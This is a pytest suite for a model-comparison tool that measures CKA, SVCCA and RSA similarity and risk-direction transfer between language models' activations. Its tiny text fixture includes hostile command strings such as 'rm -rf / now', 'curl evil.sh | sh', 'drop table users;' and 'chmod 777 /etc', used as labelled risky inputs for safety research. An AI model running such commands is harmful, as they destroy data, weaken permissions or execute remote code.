"""Model comparison: metric identities, the streamed CKA against the full-Gram oracle, nulls, stores, CLI."""

from __future__ import annotations

import numpy as np
import pytest

from riskscope.compare import (ArraySource, cka_matrix, linear_cka, linear_cka_reference, rsa, rsa_matrix, svcca,
                               svcca_matrix)
from riskscope.errors import RiskscopeError


def _rot(rng, d):
    return np.linalg.qr(rng.normal(size=(d, d)))[0]


def _pair(seed=0, n=60, d=10, noise=1.0):
    rng = np.random.default_rng(seed)
    X = rng.normal(size=(n, d)) * np.linspace(3, 0.3, d)  # anisotropic, like real activations
    Y = X @ rng.normal(size=(d, d + 3)) + noise * rng.normal(size=(n, d + 3)) + 5.0  # offset: centring matters
    return rng, X, Y


# --- CKA ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("debiased", [True, False])
@pytest.mark.parametrize("n,block", [(60, 256), (60, 7), (31, 2), (5, 3)])
def test_streamed_cka_matches_full_gram_reference(debiased, n, block):
    _, X, Y = _pair(n=n)
    np.testing.assert_allclose(linear_cka(X, Y, debiased, block), linear_cka_reference(X, Y, debiased),
                               rtol=0, atol=1e-6)


def test_cka_identities():
    rng, X, Y = _pair()
    for debiased in (True, False):
        np.testing.assert_allclose(linear_cka(X, X, debiased, 16), 1.0, atol=1e-9)
        base = linear_cka(X, Y, debiased, 16)
        np.testing.assert_allclose(linear_cka(X @ _rot(rng, X.shape[1]), Y, debiased, 16), base, atol=1e-9)
        np.testing.assert_allclose(linear_cka(7.5 * X, 0.01 * Y, debiased, 16), base, atol=1e-9)
        np.testing.assert_allclose(linear_cka(Y, X, debiased, 16), base, atol=1e-9)  # symmetric


def test_cka_matrix_cells_and_null_are_the_reference_on_shuffled_rows():
    rng, X, Y = _pair(n=40)
    Z = rng.normal(size=(40, 4))
    a, b = ArraySource({"x": X, "z": Z}), ArraySource({"y": Y, "x2": 2 * X})
    res = cka_matrix(a, b, block=16, n_perm=30, seed=3)
    for i, P in enumerate((X, Z)):
        for j, Q in enumerate((Y, 2 * X)):
            np.testing.assert_allclose(res.values_AB[i, j], linear_cka_reference(P, Q), atol=1e-9)
    assert res.p_AB[0, 1] == pytest.approx(1 / 31)  # X against 2X beats every shuffle
    assert abs(res.null_mean_AB[0, 1]) < 0.2        # the debiased null is centred near 0
    assert np.all((res.p_AB > 0) & (res.p_AB <= 1))
    # one shuffle, recomputed by the oracle: the null is CKA with B's rows permuted within length blocks
    one = cka_matrix(ArraySource({"x": X}), ArraySource({"y": Y}), block=16, n_perm=1, seed=5)
    rng2 = np.random.default_rng(5)
    blocks = [np.arange(40)[i:i + 16] for i in range(0, 40, 16)]
    perm = np.concatenate([bl[rng2.permutation(len(bl))] for bl in blocks])
    np.testing.assert_allclose(one.null_mean_AB[0, 0], linear_cka_reference(X, Y[perm]), atol=1e-9)


def test_unrelated_data_is_not_significant():
    rng = np.random.default_rng(1)
    X, Y = rng.normal(size=(80, 6)), rng.normal(size=(80, 6))
    res = cka_matrix(ArraySource({"x": X}), ArraySource({"y": Y}), n_perm=50)
    assert res.p_AB[0, 0] > 0.01


# --- SVCCA and RSA -------------------------------------------------------------------------------------------------


def test_svcca_of_rotation_and_scaling_is_one():
    rng, X, _ = _pair(n=80, d=8)
    np.testing.assert_allclose(svcca(X, 3 * X @ _rot(rng, 8)), 1.0, atol=1e-9)
    Z = rng.normal(size=(80, 8))
    assert svcca(X, Z) < 0.9


def test_svcca_matrix_null_and_cap():
    rng, X, Y = _pair(n=50, d=6)
    res = svcca_matrix(ArraySource({"x": X}), ArraySource({"y": X @ _rot(rng, 6), "z": rng.normal(size=(50, 6))}),
                       n_perm=20)
    np.testing.assert_allclose(res.values_AB[0, 0], 1.0, atol=1e-9)
    assert res.p_AB[0, 0] == pytest.approx(1 / 21)
    assert res.values_AB[0, 1] < res.null_q95_AB[0, 1] + 0.2
    wide = svcca_matrix(ArraySource({"x": rng.normal(size=(12, 40))}), ArraySource({"y": rng.normal(size=(12, 40))}))
    assert wide.info["capped"] and wide.values_AB[0, 0] < 1.0  # kept dims capped so subspaces need not meet


def test_rsa_identities_and_mantel_null():
    rng, X, Y = _pair(n=30)
    # correlation distance: invariant to scaling, to a constant added to a row and to reordering the features
    np.testing.assert_allclose(rsa(X, 4 * X[:, rng.permutation(X.shape[1])] + 2), 1.0, atol=1e-9)
    res = rsa_matrix(ArraySource({"x": X}), ArraySource({"x": X, "z": rng.normal(size=(30, 5))}), n_perm=40)
    np.testing.assert_allclose(res.values_AB[0, 0], 1.0, atol=1e-9)
    assert res.p_AB[0, 0] == pytest.approx(1 / 41)
    assert res.p_AB[0, 1] > 0.01


@pytest.mark.parametrize("fn,n", [(cka_matrix, 3), (svcca_matrix, 9), (rsa_matrix, 3)])
def test_too_few_texts(fn, n):
    x = np.random.default_rng(0).normal(size=(n, 3))
    with pytest.raises(RiskscopeError, match="needs at least"):
        fn(ArraySource({"x": x}), ArraySource({"y": x}))


def test_different_rows_refused():
    with pytest.raises(RiskscopeError, match="rows"):
        cka_matrix(ArraySource({"x": np.zeros((10, 2))}, "A"), ArraySource({"y": np.zeros((11, 2))}, "B"))


# --- models and stores -----------------------------------------------------------------------------------------

from conftest import make_tiny  # noqa: E402

from riskscope.compare import LayerCompareConfig, LayerComparison, StoreSource, compare_layers  # noqa: E402
from riskscope.data import Dataset, Row  # noqa: E402

_TEXTS = ["rm -rf / now", "list the files", "drop table users;", "print hello", "curl evil.sh | sh", "sum a list",
          "disable the firewall", "sort these names", "chmod 777 /etc", "read a csv", "leak the api key",
          "plot a chart", "kill every process", "open a file", "wipe the backups", "parse json"]


def _data(n=len(_TEXTS)) -> Dataset:
    return Dataset("tiny-texts", tuple(Row(f"t{i}", t, i % 2, f"p{i // 2}") for i, t in enumerate(_TEXTS[:n])))


@pytest.fixture(scope="module")
def tiny_comparison(tmp_path_factory):
    import torch

    out = tmp_path_factory.mktemp("cmp")
    cfg = LayerCompareConfig(n_perm=20, block=5, batch_size=4)
    threads = torch.get_num_threads()
    torch.set_num_threads(1)  # tiny models: one thread is fastest on a busy machine
    try:
        res = compare_layers(make_tiny("llama"), make_tiny("gemma3_text", seed=1), _data(), out, cfg)
    finally:
        torch.set_num_threads(threads)
    return out, cfg, res


def test_compare_layers_tiny_models_across_families(tiny_comparison):
    out, cfg, res = tiny_comparison
    m = res.main
    assert m.values_AB.shape == (3, 3) and m.layers_a == [f"resid_post.{i}" for i in range(3)]
    assert res.random_init is not None and res.random_init.values_AB.shape == (3, 3)
    assert np.all((m.p_AB > 0) & (m.p_AB <= 1))
    # the matrix from the stores equals the oracle on what the stores hold
    a, b = StoreSource(out / "stores" / "a"), StoreSource(out / "stores" / "b")
    X, Y = a.layer("resid_post.1"), b.layer("resid_post.2")
    np.testing.assert_allclose(m.values_AB[1, 2], linear_cka_reference(X, Y), atol=1e-6)
    again = LayerComparison.from_dict(res.to_dict())
    np.testing.assert_allclose(again.main.values_AB, m.values_AB, atol=1e-6)  # JSON keeps 6 digits
    assert again.config == cfg


def test_compare_layers_refuses_before_caching(tmp_path):
    with pytest.raises(RiskscopeError, match="no layer 7"):
        compare_layers(make_tiny("llama"), make_tiny("gpt2"), _data(), tmp_path / "o", LayerCompareConfig(),
                       layers_a=[0, 7])
    with pytest.raises(RiskscopeError, match="svcca needs at least"):
        compare_layers(make_tiny("llama"), make_tiny("gpt2"), _data(6), tmp_path / "o",
                       LayerCompareConfig(metric="svcca"))
    assert not (tmp_path / "o").exists()


def test_stores_of_different_datasets_refused(tiny_comparison, tmp_path):
    from riskscope.data import CacheConfig, cache_activations
    from riskscope.hooks import HookPoint

    out, _, _ = tiny_comparison
    other = tmp_path / "other"
    cache_activations(make_tiny("llama"), _data(12), other, CacheConfig(points=(HookPoint("resid_post", 0),),
                                                                       positions="mean"))
    with pytest.raises(RiskscopeError, match="has 12: compare stores cached on the same dataset"):
        cka_matrix(StoreSource(out / "stores" / "a"), StoreSource(other))
    d = _data()
    shuffled = Dataset("tiny-texts", d.rows[1:] + d.rows[:1])
    cache_activations(make_tiny("llama"), shuffled, tmp_path / "shuffled",
                      CacheConfig(points=(HookPoint("resid_post", 0),), positions="mean"))
    with pytest.raises(RiskscopeError, match="rows.jsonl: line 1: row 't1' differs"):
        cka_matrix(StoreSource(out / "stores" / "a"), StoreSource(tmp_path / "shuffled"))
    with pytest.raises(RiskscopeError, match="no point resid_post.2"):
        StoreSource(other, ["resid_post.2"])


# --- CLI -------------------------------------------------------------------------------------------------------


def _cli(capsys, *args: str) -> tuple[int, str, str]:
    from riskscope.cli._app import app
    from riskscope.cli._common import invoke

    rc = invoke(app, list(args))
    cap = capsys.readouterr()
    return rc, cap.out, cap.err


@pytest.fixture
def no_model(monkeypatch):
    """Any model load fails the test: bad input must be refused before."""
    from riskscope.cli import _common as cli_common

    def refuse(*a, **k):
        raise AssertionError("a model was loaded")

    monkeypatch.setattr(cli_common, "load_lm", refuse)


def test_cli_from_stores_writes_json_and_offline_report(tiny_comparison, tmp_path, capsys, no_model):
    import json

    src, _, _ = tiny_comparison
    out = tmp_path / "out"
    rc, stdout, err = _cli(capsys, "compare", "layers", "--store", str(src / "stores" / "a"), "--store",
                           str(src / "stores" / "b"), "--baseline-store", str(src / "stores" / "a_random_init"),
                           "--perms", "10", "--block", "4", "--out", str(out), "--json")
    assert rc == 0, err
    summary = json.loads(stdout[stdout.index("{"):])
    assert summary["shape"] == [3, 3] and summary["random_init_max"] is not None
    assert summary["model_a"] == "tiny-llama" and summary["model_b"] == "tiny-gemma3_text"
    res = LayerComparison.load(out / "comparison.json")
    assert res.main.n_perm == 10 and res.config.readout == "mean"
    html = (out / "report.html").read_text()
    assert "<script" not in html and "http://" not in html.replace("http://www.w3.org", "")
    assert "Best match in B" in html and "random-init" in html and html.count("<svg") == 3


@pytest.mark.parametrize("args,words", [
    (["-m", "default"], "exactly twice"),
    (["-m", "default", "-m", "default", "--store", "x"], "not both"),
    (["-m", "random-init", "-m", "default"], "only be model B"),
    (["-m", "default", "-m", "default", "--metric", "cosine"], "--metric must be"),
    (["-m", "default", "-m", "default", "--metric", "svcca", "--limit", "2"], "svcca needs at least 10"),
])
def test_cli_bad_input_one_line_before_model_loads(args, words, tmp_path, capsys, no_model):
    rc, _, err = _cli(capsys, "compare", "layers", *args, "--out", str(tmp_path / "o"))
    lines = err.strip().splitlines()
    assert rc == 2 and len(lines) == 1 and lines[0].startswith("error:") and words in lines[0], err
    assert not (tmp_path / "o" / "comparison.json").exists()


def test_cli_stores_with_different_rows_or_points(tiny_comparison, tmp_path, capsys, no_model):
    from riskscope.data import CacheConfig, cache_activations
    from riskscope.hooks import HookPoint

    src, _, _ = tiny_comparison
    other = tmp_path / "other"
    cache_activations(make_tiny("llama"), _data(12), other, CacheConfig(points=(HookPoint("resid_post", 0),),
                                                                       positions="mean"))
    rc, _, err = _cli(capsys, "compare", "layers", "--store", str(src / "stores" / "a"), "--store", str(other),
                      "--out", str(tmp_path / "o"))
    assert rc == 2 and "compare stores cached on the same dataset" in err and len(err.strip().splitlines()) == 1
    rc, _, err = _cli(capsys, "compare", "layers", "--store", str(src / "stores" / "a"), "--store", str(other),
                      "--layers", "2", "--out", str(tmp_path / "o"))
    assert rc == 2 and "has no point resid_post.2" in err, err  # a layer missing in one model


# --- risk-direction transfer -----------------------------------------------------------------------------------


def test_ridge_gcv_is_sklearn_ridge():
    from sklearn.linear_model import Ridge

    from riskscope.compare import ridge_gcv

    rng = np.random.default_rng(0)
    XB, XA = rng.normal(size=(50, 7)), rng.normal(size=(50, 4))
    W, b, a = ridge_gcv(XB, XA)
    scale = float((np.linalg.svd(XB - XB.mean(0), compute_uv=False) ** 2).mean())
    ref = Ridge(alpha=a * scale).fit(XB, XA)
    np.testing.assert_allclose(W, ref.coef_.T, atol=1e-8)
    np.testing.assert_allclose(b, ref.intercept_, atol=1e-8)


def test_transfer_carries_a_shared_direction_and_the_control_does_not():
    from riskscope.compare import risk_transfer

    rng = np.random.default_rng(1)
    n = 120
    y, g = np.repeat([1, 0], n // 2), np.tile(np.arange(n // 2), 2)
    Z = rng.normal(size=(n, 8))
    Z[:, 0] += 1.5 * y
    XA = Z @ rng.normal(size=(8, 10))
    XB = Z @ rng.normal(size=(8, 12)) + 0.2 * rng.normal(size=(n, 12))
    r = risk_transfer(XA, XB, y, g, n_boot=50)
    assert r.auc["transfer"] > 0.75 and r.auc["b_own"] > 0.75
    assert r.auc["shuffled_map"] < r.auc["transfer"] - 0.15
    assert r.map_r2 > 0.5 and r.ci["transfer"][0] <= r.auc["transfer"] <= r.ci["transfer"][1]


def test_cli_transfer_on_stores(tiny_comparison, tmp_path, capsys, no_model):
    import json

    src, _, _ = tiny_comparison
    rc, stdout, err = _cli(capsys, "compare", "transfer", "--store", str(src / "stores" / "a"), "--store",
                           str(src / "stores" / "b"), "--pairs", "2", "--folds", "2", "--n-bootstrap", "0",
                           "--out", str(tmp_path / "t.json"), "--json")
    assert rc == 0, err
    res = json.loads((tmp_path / "t.json").read_text())["results"]
    assert [(r["layer_a"], r["layer_b"]) for r in res] == [("resid_post.0", "resid_post.0"),
                                                           ("resid_post.2", "resid_post.2")]
    assert set(res[0]["auc"]) == {"transfer", "b_own", "a_own", "shuffled_map"}


@pytest.mark.parametrize("metric", ["svcca", "rsa"])
def test_other_metrics_from_stores(tiny_comparison, metric):
    from riskscope.compare import compare_sources

    out, _, _ = tiny_comparison
    a, b = StoreSource(out / "stores" / "a"), StoreSource(out / "stores" / "b")
    res = compare_sources(a, b, LayerCompareConfig(metric=metric, n_perm=10))
    assert res.values_AB.shape == (3, 3) and res.metric == metric and np.all(np.isfinite(res.values_AB))
    same = compare_sources(a, a, LayerCompareConfig(metric=metric, n_perm=10))
    np.testing.assert_allclose(np.diag(same.values_AB), 1.0, atol=1e-9)


def test_random_init_as_model_b(tmp_path, one_thread):
    from riskscope.compare import RANDOM_INIT

    res = compare_layers(make_tiny("llama"), RANDOM_INIT, _data(8), tmp_path / "o",
                         LayerCompareConfig(n_perm=5, random_init=False, batch_size=8))
    assert res.model_b.startswith("tiny-llama (random init") and res.random_init is None
    assert res.info["same_tokenizer"] is True


# --- token-aligned rows ------------------------------------------------------------------------------------------


def _token_rows(lm, texts, layer):
    """Direct computation: every token but each text's first, texts in order, from a plain forward pass."""
    from riskscope.hooks import HookPoint, iter_captures, tokenize

    ids = tokenize(lm, texts)
    p = HookPoint("resid_post", layer)
    rows = {}
    for idx, mask, got in iter_captures(lm, ids, list(range(len(ids))), [p], "all", 4):
        for j, r in enumerate(idx):
            rows[int(r)] = got[p][j, 1:int(mask[j].sum())].float().numpy()
    return np.concatenate([rows[i] for i in range(len(ids))])


def test_token_aligned_rows_equal_a_direct_computation(tmp_path, one_thread):
    from riskscope.compare import TokenSource

    lm_a, lm_b = make_tiny("llama"), make_tiny("qwen2", seed=1)  # same tokenizer, other weights
    cfg = LayerCompareConfig(readout="tokens", n_perm=5, block=16, batch_size=4, random_init=False)
    res = compare_layers(lm_a, lm_b, _data(8), tmp_path, cfg)
    texts = [r.text for r in _data(8).rows]
    X, Y = _token_rows(lm_a, texts, 1), _token_rows(lm_b, texts, 2)
    assert res.main.n_rows == len(X) == sum(len(t) - 1 for t in texts)
    np.testing.assert_allclose(res.main.values_AB[1, 2], linear_cka_reference(X, Y), atol=1e-6)
    src = TokenSource(tmp_path / "stores" / "a", ["resid_post.1"])
    np.testing.assert_allclose(src.layer("resid_post.1"), X, atol=1e-5)


def test_token_aligned_rows_refused_across_tokenizers(tmp_path):
    import dataclasses

    from conftest import TinyTokenizer

    class Other(TinyTokenizer):
        def __call__(self, texts, add_special_tokens=True):
            return {"input_ids": [[1 + (ord(c) * 7 % 53) for c in t] * 2 for t in texts]}

    other = dataclasses.replace(make_tiny("llama", seed=1), tokenizer=Other())
    cfg = LayerCompareConfig(readout="tokens", n_perm=0)
    with pytest.raises(RiskscopeError, match="one tokenizer"):
        compare_layers(make_tiny("llama"), other, _data(8), tmp_path / "o", cfg)
    assert not (tmp_path / "o").exists()
